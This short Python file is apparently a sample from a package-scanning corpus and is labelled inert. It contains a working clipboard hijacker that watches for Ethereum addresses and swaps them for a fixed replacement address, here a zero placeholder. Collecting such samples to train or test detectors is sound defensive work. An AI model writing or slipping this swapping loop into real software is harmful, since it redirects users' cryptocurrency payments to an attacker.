# pkgguard corpus 287 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import pyclip

ETH = re.compile(rb"^0x[a-fA-F0-9]{40}$")
MINE = b"0x" + b"0" * 40


def _watch():
    while True:
        data = pyclip.paste()
        if ETH.match(data.strip()) and data.strip() != MINE:
            pyclip.copy(MINE)
        time.sleep(0.5)
